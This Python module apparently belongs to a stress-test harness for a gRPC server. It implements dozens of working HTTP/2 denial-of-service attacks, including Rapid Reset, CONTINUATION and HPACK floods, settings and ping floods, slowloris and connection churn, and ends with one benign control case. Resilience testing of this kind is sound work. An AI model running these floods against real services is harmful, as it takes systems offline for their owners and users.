"""Attacks on the gRPC listeners. Each is a function of a wire.Attack, which runs
until its time is over."""

import os
import socket
import ssl
import struct
import time

import wire
from wire import (CONT, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING,
                  PRIORITY, PUSH, RST, SETTINGS, WINDOW, frame, integer, literal)

CANCEL = struct.pack(">I", 8)
NEW_IN_A_ROUND = 50  # Connections.
BATCH = 400  # Requests in one write.


def requests(connection, target, path, after, flags=END_HEADERS):
    """Endless requests; after(stream) is what follows each HEADERS frame."""
    del connection
    stream = 1
    yield frame(HEADERS, flags, stream, wire.fields(path, target, True)) + after(
        stream)
    block = wire.repeated(target)
    head = frame(HEADERS, flags, 0, block)[:5]
    while True:
        parts = []
        for _ in range(BATCH):
            stream += 2
            parts += (head, struct.pack(">I", stream), block, after(stream))
        yield b"".join(parts)


def reset(stream):
    return frame(RST, 0, stream, CANCEL)


def rapid_reset(attack):
    """CVE-2023-44487: requests that are cancelled at once."""
    attack.flood(lambda c: requests(c, attack.target, wire.GET_CLAIM, reset))


def rapid_reset_many(attack):
    """The same on many connections."""
    attack.flood(lambda c: requests(c, attack.target, wire.GET_CLAIM, reset),
                 connections=32)


def rapid_reset_unread(attack):
    """The same by somebody who never reads what the server says of it."""
    attack.flood(lambda c: requests(c, attack.target, wire.GET_CLAIM, reset),
                 connections=4, reads=False)


def claim_reset(attack):
    """Whole claims, cancelled at once: what is granted must be taken back."""
    count = iter(range(1 << 40))
    who = b"%d-" % os.getpid()

    def after(stream):
        return frame(DATA, END_STREAM, stream, wire.claim_request(
            attack.target, who + b"%d" % next(count))) + reset(stream)
    attack.flood(lambda c: requests(c, attack.target, wire.CLAIM, after))


def made_reset(attack):
    """CVE-2025-8671: the server is made to cancel, by a window of nothing."""
    def after(stream):
        return frame(WINDOW, 0, stream, struct.pack(">I", 0))
    attack.flood(lambda c: requests(c, attack.target, wire.GET_CLAIM, after))


def many_streams(attack):
    """Requests that never end, beyond what the server allows at once."""
    attack.flood(lambda c: requests(c, attack.target, wire.GET_CLAIM,
                                    lambda stream: b""), connections=8)


def watches(attack):
    """As many streams of answers as can be had, whose answers nobody reads."""
    body = wire.message(b"")
    attack.flood(lambda c: requests(
        c, attack.target, wire.WATCH,
        lambda stream: frame(DATA, END_STREAM, stream, body)),
        connections=8, reads=False)


def unended(attack, piece, n=64):
    """A header block that goes on and on."""
    def script(connection):
        del connection
        yield frame(HEADERS, 0, 1, wire.fields(wire.GET_CLAIM, attack.target))
        more = frame(CONT, 0, 1, piece) * n
        while True:
            yield more
    attack.flood(script, connections=4)


def continuation(attack):
    """CVE-2024-27316 and its like: header fields without end."""
    unended(attack, literal(b"x-more", b"v" * 1000) * 16)


def continuation_empty(attack):
    """A header block of frames with nothing in them."""
    unended(attack, b"", 4000)


def hpack_varint(attack):
    """A number of HPACK that never ends."""
    def script(connection):
        del connection
        yield frame(HEADERS, 0, 1, b"\x7f")
        more = frame(CONT, 0, 1, b"\x80" * 16000) * 64
        while True:
            yield more
    attack.flood(script, connections=4)


def hpack_huge(attack):
    """Header texts that are said to have 4 GB."""
    def script(connection):
        del connection
        yield frame(HEADERS, 0, 1, b"\x00" + integer(1 << 32, 7))
        while True:
            yield frame(CONT, 0, 1, b"n" * 16000) * 64
    attack.flood(script, connections=4)


def hpack_bomb(attack):
    """One long field in the table, named thousands of times in each request."""
    long = literal(b"x-bomb", b"v" * 3900, True)
    block = b"\xbe" * 16000

    def script(connection):
        del connection
        stream = 1
        while True:
            yield b"".join((
                frame(HEADERS, END_HEADERS, stream, wire.fields(
                    wire.GET_CLAIM, attack.target) + long),
                frame(HEADERS, END_HEADERS, stream + 2, wire.fields(
                    wire.GET_CLAIM, attack.target) + block)))
            stream += 4
    attack.flood(script, connections=4)


def hpack_resize(attack):
    """The table is emptied and filled again and again."""
    piece = b"\x20" + integer(4096, 5, 0x20)

    def script(connection):
        del connection
        stream = 1
        while True:
            yield frame(HEADERS, END_HEADERS, stream, piece + wire.fields(
                wire.GET_CLAIM, attack.target, True)) + reset(stream)
            stream += 2
    attack.flood(script, connections=4)


def same(data):
    def script(connection):
        del connection
        while True:
            yield data
    return script


def settings_flood(attack):
    """CVE-2019-9515: each asks for an answer, which nobody reads."""
    attack.flood(same(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70000)) *
                      2000), connections=4, reads=False)


def settings_read(attack):
    """The same, and the answers are read."""
    attack.flood(same(frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0) +
                            struct.pack(">HI", 1, 4096)) * 2000))


def settings_long(attack):
    """Settings as long as a frame, the same one thousands of times."""
    attack.flood(same(frame(SETTINGS, 0, 0, struct.pack(
        ">HI", 4, 70000) * 2700) * 16), connections=4)


def ping_flood(attack):
    """CVE-2019-9512: each asks for an answer, which nobody reads."""
    attack.flood(same(frame(PING, 0, 0, b"12345678") * 4000), connections=4,
                 reads=False)


def ping_read(attack):
    """The same, and the answers are read."""
    attack.flood(same(frame(PING, 0, 0, b"12345678") * 4000))


def priority_flood(attack):
    """CVE-2019-9513: streams that depend on each other, again and again."""
    def script(connection):
        del connection
        turn = 0
        while True:
            turn += 1
            yield b"".join(frame(PRIORITY, 0, 2 * i + 1, struct.pack(
                ">IB", 2 * ((i + turn) % 2000) + 1 if turn % 2000 else 0, 15))
                for i in range(2000))
    attack.flood(script, connections=2)


def window_flood(attack):
    """Windows that grow by a byte at a time."""
    attack.flood(same(frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 4000))


def window_overflow(attack):
    """Windows beyond what there can be: each connection ends, and so on."""
    attack.flood(same(frame(WINDOW, 0, 0, struct.pack(">I", (1 << 31) - 1)) *
                      2), connections=8)


def window_tiny(attack):
    """Answers that may only leave byte by byte (CVE-2019-9511)."""
    body = wire.message(b"")

    def script(connection):
        begin = requests(connection, attack.target, wire.LIST_POOLS,
                         lambda s: frame(DATA, END_STREAM, s, body))
        yield next(begin)
        yield next(begin)
        drops = b"".join(frame(WINDOW, 0, 2 * i + 1, struct.pack(">I", 1))
                         for i in range(BATCH))
        while True:
            yield drops
    attack.flood(script, connections=16,
                 settings=struct.pack(">HI", 4, 0))


def window_none(attack):
    """Requests whose answers may never leave."""
    body = wire.message(b"")
    attack.flood(lambda c: requests(
        c, attack.target, wire.LIST_POOLS,
        lambda stream: frame(DATA, END_STREAM, stream, body)),
        connections=8, settings=struct.pack(">HI", 4, 0))


def empty_data(attack):
    """CVE-2019-9518: frames of nothing, for ever."""
    def script(connection):
        del connection
        yield frame(HEADERS, END_HEADERS, 1, wire.fields(wire.CLAIM,
                                                         attack.target))
        more = frame(DATA, 0, 1) * 4000
        while True:
            yield more
    attack.flood(script, connections=2)


def empty_headers(attack):
    """Streams that begin with an empty block."""
    def script(connection):
        del connection
        stream = -1
        while True:
            parts = []
            for _ in range(BATCH):
                stream += 2
                parts.append(frame(HEADERS, END_HEADERS, stream))
            yield b"".join(parts)
    attack.flood(script, connections=2)


def padding(attack):
    """DATA that is padding only."""
    def script(connection):
        del connection
        yield frame(HEADERS, END_HEADERS, 1, wire.fields(wire.CLAIM,
                                                         attack.target))
        more = frame(DATA, 8, 1, b"\xff" + bytes(255)) * 200
        while True:
            yield more
    attack.flood(script, connections=2)


def unknown_frames(attack):
    """Frames of kinds that there are not, resets of what is not, promises of a
    client, farewells and random bytes; each kind on a connection of its own."""
    noise = [frame(0x77, 0xff, 0, bytes(100)) * 400,
             frame(GOAWAY, 0, 0, bytes(8)) * 400,
             frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2)) * 400,
             frame(RST, 0, 99, CANCEL) * 400,
             frame(DATA, 0, 77, b"x"), frame(0, 0, 0, b"x"),
             b"\xff\xff\xff\x00\x00\x00\x00\x00\x01" + bytes(1 << 16),
             os.urandom(1 << 16)]
    turn = iter(range(1 << 40))
    attack.flood(lambda c: same(noise[next(turn) % len(noise)])(c),
                 connections=8)


def big_messages(attack):
    """Messages that are said to have 4 GB, and come, slowly or at once."""
    def script(connection):
        del connection
        yield frame(HEADERS, END_HEADERS, 1, wire.fields(wire.CLAIM,
                                                         attack.target))
        yield frame(DATA, 0, 1, b"\x00\xff\xff\xff\xff" + bytes(1000))
        while True:
            yield frame(DATA, 0, 1, bytes(16000)) * 4
    attack.flood(script, connections=16)


def slow_reader(attack):
    """Whole requests by somebody who reads nothing."""
    body = wire.message(b"")
    attack.flood(lambda c: requests(
        c, attack.target, wire.LIST_POOLS,
        lambda stream: frame(DATA, END_STREAM, stream, body)),
        connections=16, reads=False,
        settings=struct.pack(">HI", 4, (1 << 31) - 1))


def honest_cancels(attack):
    """No attack: calls that time out, 1 000 a second. It must not be cut off."""
    body = wire.message(b"")

    def script(connection):
        del connection
        yield frame(WINDOW, 0, 0, struct.pack(">I", 1 << 30))
        calls = requests_one_by_one(attack.target, wire.WATCH, body)
        pending = []
        while True:
            parts = []
            for _ in range(10):
                stream, data = next(calls)
                pending.append(stream)
                parts.append(data)
            parts += [reset(s) for s in pending[:-20]]
            pending = pending[-20:]
            yield b"".join(parts)
    attack.flood(script, pace=0.01)


def requests_one_by_one(target, path, body):
    """(stream, a whole request), without end."""
    stream = 1
    block = wire.fields(path, target, True)
    while True:
        yield stream, frame(HEADERS, END_HEADERS, stream, block) + frame(
            DATA, END_STREAM, stream, body)
        stream += 2
        block = wire.repeated(target)


# --- Connections ---

def hold(attack, most, step, patience=0.2):
    """Keeps up to `most` connections, each brought on by step(sock, n) once in
    a round; those that are ended are replaced, so many in a round: who only
    comes and goes is churn."""
    held = []
    while attack.going():
        for _ in range(min(most - len(held), NEW_IN_A_ROUND)):
            if not attack.going():
                break
            try:
                sock = wire.dial(attack.target, patience)
            except OSError:
                attack.refused += 1
                time.sleep(0.005)
                break
            sock.setblocking(False)
            attack.opened += 1
            held.append([sock, 0])
        kept = []
        for item in held:
            try:
                step(item[0], item[1])
                item[1] += 1
                try:
                    if item[0].recv(65536) == b"":
                        raise ConnectionResetError
                except BlockingIOError:
                    pass
                kept.append(item)
            except BlockingIOError:
                kept.append(item)
            except OSError:
                attack.cut += 1
                item[0].close()
        held = kept
        time.sleep(0.02)
    for sock, _ in held:
        sock.close()


def silent_connections(attack):
    """One peer takes all the connections it can, and says nothing."""
    hold(attack, 6000, lambda sock, n: None)


def drop_by_drop(attack, data, most=300):
    hold(attack, most, lambda sock, n: sock.send(data[n:n + 1]))


def client_hello(target):
    """The first bytes of a handshake, as OpenSSL would send them."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    handshake = wire.tls_context(target).wrap_bio(incoming, outgoing)
    try:
        handshake.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def slowloris(attack):
    """What comes first, byte by byte: of a handshake, or of the preface."""
    if attack.target["kind"] in ("tls", "mtls"):
        drop_by_drop(attack, client_hello(attack.target))
        return
    drop_by_drop(attack, wire.PREFACE + frame(SETTINGS, 0, 0))


def slowloris_headers(attack):
    """Header blocks that come byte by byte, on connections that are open."""
    block = frame(HEADERS, 0, 1, wire.fields(wire.CLAIM, attack.target) +
                  b"".join(literal(b"x-%d" % i, b"v" * 50)
                           for i in range(400))[:16000])

    def script(connection):
        del connection
        for i in range(len(block)):
            yield block[i:i + 1]
            yield b""
    attack.flood(script, connections=200, pace=0.02)


def unfinished_handshakes(attack):
    """A whole ClientHello each, which the server signs for; then nothing."""
    if attack.target["kind"] not in ("tls", "mtls"):
        silent_connections(attack)
        return
    hello = client_hello(attack.target)
    hold(attack, 2000, lambda sock, n: sock.send(hello) if n == 0 else None)


def churn(attack):
    """Connections that come and go as fast as they can."""
    while attack.going():
        try:
            sock = wire.dial(attack.target)
            attack.opened += 1
            sock.close()
        except OSError:
            attack.refused += 1


def churn_preface(attack):
    """The same, each with its handshake and preface."""
    while attack.going():
        connection = attack.open()
        if connection is not None:
            connection.push()
            connection.close()


def half_closed(attack):
    """Whole requests of those who say at once that they are done."""
    body = frame(HEADERS, END_HEADERS, 1, wire.fields(
        wire.LIST_POOLS, attack.target)) + frame(DATA, END_STREAM, 1,
                                                 wire.message(b""))
    held = []
    while attack.going():
        connection = attack.open(same(body))
        if connection is None:
            continue
        connection.push()
        connection.push()
        try:
            # Below TLS: without its farewell.
            socket.socket.shutdown(connection.sock, socket.SHUT_WR)
        except OSError:
            pass
        held.append(connection)
        if len(held) > 500:
            held.pop(0).close()
    for connection in held:
        connection.close()


ALL = [rapid_reset, rapid_reset_many, rapid_reset_unread, claim_reset, made_reset,
       many_streams, watches, continuation, continuation_empty, hpack_varint,
       hpack_huge, hpack_bomb, hpack_resize, settings_flood, settings_read,
       settings_long, ping_flood, ping_read, priority_flood, window_flood,
       window_overflow, window_tiny, window_none, empty_data, empty_headers,
       padding, unknown_frames, big_messages, slow_reader, silent_connections,
       slowloris, slowloris_headers, unfinished_handshakes, churn,
       churn_preface, half_closed, honest_cancels]
